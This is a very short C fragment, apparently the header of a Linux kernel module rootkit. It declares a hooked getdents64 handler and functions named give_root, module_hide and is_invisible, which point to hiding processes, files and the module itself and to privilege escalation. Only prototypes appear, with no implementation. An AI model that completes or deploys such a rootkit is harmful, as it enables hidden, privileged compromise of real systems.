#include <linux/module.h>
static asmlinkage long hacked_getdents64(const struct pt_regs *r);
void give_root(void); void module_hide(void); int is_invisible(pid_t pid);
